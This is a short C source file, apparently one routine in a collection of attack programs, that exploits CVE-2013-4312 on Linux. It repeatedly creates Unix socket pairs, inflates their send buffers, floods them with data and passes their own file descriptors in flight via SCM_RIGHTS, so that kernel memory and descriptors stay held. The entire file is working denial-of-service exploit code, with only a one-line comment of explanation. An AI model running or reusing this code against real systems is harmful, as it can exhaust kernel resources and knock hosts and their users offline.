/* Fills the buffers of sockets, and passes descriptors that nobody takes (unix(7), CVE-2013-4312). */
#include "common/attack.h"

static void fill(void) {
    static char block[65536];
    int pair[2], size = 1 << 30, made = 0;
    while (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair) == 0) {
        char control[CMSG_SPACE(sizeof pair)];
        struct iovec bytes = {block, sizeof block};
        struct msghdr message = {.msg_iov = &bytes, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
        struct cmsghdr *head = CMSG_FIRSTHDR(&message);
        head->cmsg_level = SOL_SOCKET;
        head->cmsg_type = SCM_RIGHTS;
        head->cmsg_len = CMSG_LEN(sizeof pair);
        memcpy(CMSG_DATA(head), pair, sizeof pair);
        setsockopt(pair[0], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
        setsockopt(pair[0], SOL_SOCKET, SO_SNDBUFFORCE, &size, sizeof size);
        while (sendmsg(pair[0], &message, MSG_DONTWAIT) > 0) {
        }
        close(pair[0]);
        close(pair[1]);
        if (++made == 2000) {
            break;
        }
    }
    printf("%d pairs: %s\n", made, strerror(errno));
    hold();
}

static void attempt(void) {
    if (fork() == 0) {
        fill();
    }
    sleep(2);
    hold();
}
